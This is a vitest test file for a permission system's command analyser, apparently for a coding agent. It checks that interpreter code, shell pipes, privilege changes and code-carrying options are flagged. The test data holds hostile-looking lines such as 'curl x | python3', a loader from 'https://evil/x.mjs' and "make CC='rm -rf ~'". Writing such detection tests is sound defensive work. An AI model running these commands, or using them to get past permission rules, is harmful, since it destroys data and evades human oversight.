import {describe, expect, it} from 'vitest'

import {analyzeCommandLine} from '../../../src/core/permissions/command-analysis.js'

const hazards = (line: string) => analyzeCommandLine(line).hazards

/** Issue 13: code handed to an interpreter is never read, so no rule allows it and exec deny rules may match it. */
describe('analyzeCommandLine: interpreter code', () => {
  it('reports inline code and interpreters that read their program from their input', () => {
    const lines = [
      "python3 -c 'x'",
      "python3 -Bc 'x'",
      'python3 -i script.py',
      'curl x | python3',
      'python3 - < x',
      "node -e 'x'",
      'node -pe 1',
      'node --eval=x',
      'node --import=data:text/javascript,x app.js',
      "node --loader 'https://evil/x.mjs' app.js",
      'node',
      "perl -e 'x'",
      "perl -lne 'x' f",
      "perl -l0e 'x'",
      "perl -ce 'BEGIN { x }'",
      "perl -M'strict; system q(x)' f.pl",
      "ruby -e 'x'",
      "php -r 'x'",
      "lua -e 'x'",
      "bun -e 'x'",
      'awk \'BEGIN { system("x") }\'',
      'awk \'{ print | "sh" }\' f',
      'echo x | sh',
      'bash -s',
      'bash -i',
      'sh -',
      "sh <<<'x'",
      'bash /dev/stdin',
      'bash <(curl x)',
      '. <(echo x)',
      'source /dev/fd/3',
      'xargs sh',
      'echo x | script -q',
      'su',
      'su root',
      'su -s /usr/bin/python3 -c x',
      'su root -- -c x',
      'unshare -r',
      'nsenter -t 1 -m',
      'chroot /',
      'sudo -s',
      'sudo -i',
      'doas -s',
      'systemd-run -S',
      'systemd-run -p ExecStartPre=x true',
      "strace -o '|x' true",
    ]
    for (const line of lines) expect(hazards(line), line).toContain('interpreter-code')
  })

  it('reports options whose value is code or a command', () => {
    const lines = [
      'npm test --node-options=--require=./x',
      'npm test --script-shell ./x',
      'npm --prefix /tmp/x test',
      'npm -C /tmp/x test',
      'npm --userconfig ./x.npmrc test',
      'npm explore pkg -- x',
      "make --eval='x: ; y'",
      'tar -xf a.tar --to-command=x',
      "tar -cf /dev/null . --checkpoint=1 --checkpoint-action=exec='x'",
      'tar -cIzstd -f a.tar .',
      "rsync -e 'x' a b:c",
      'rsync -avze x a b:c',
      'sort --compress-program=x a',
      'zip -T -TT x a.zip f',
    ]
    for (const line of lines) expect(hazards(line), line).toContain('interpreter-code')
  })

  it('leaves scripts, modules and version checks alone', () => {
    const lines = [
      'python3 script.py -c x',
      'python3 -m pytest -q -c x',
      'python3 --version',
      'python3 -W ignore script.py',
      'node build.js -e x',
      'node --version',
      'node -c app.js',
      'node --import tsx app.ts',
      'node -r ts-node/register app.ts',
      'perl -v',
      'perl -MJSON script.pl',
      'bun test',
      'bash script.sh',
      'bash --version',
      'sh -c ls',
      '. ./env.sh',
      "awk '{ print $1 }' f",
      'awk -f prog.awk f',
      'npm test',
      'npm test -- --node-options=x',
      'npm install',
      'npx prettier --check .',
      'make',
      'tar -xzf a.tar -C out',
      'rsync -avz a b',
      'sort -u a',
      'su -c ls',
      'script -qc ls /dev/null',
    ]
    for (const line of lines) expect(hazards(line), line).toEqual([])
  })

  it("reports make's other makefiles and variable overrides as executing, and reads the values for deny rules", () => {
    for (const line of ['make -f ../x.mk', 'make -C /tmp/x', 'make --directory=/tmp/x test', 'make test SHELL=./x']) {
      expect(hazards(line), line).toEqual(['executing-option'])
    }

    expect(analyzeCommandLine("make CC='rm -rf ~'").parts.map((part) => part.allow.at(-1)!.text)).toEqual([
      'make CC=rm -rf ~',
      'rm -rf ~',
    ])
  })
})
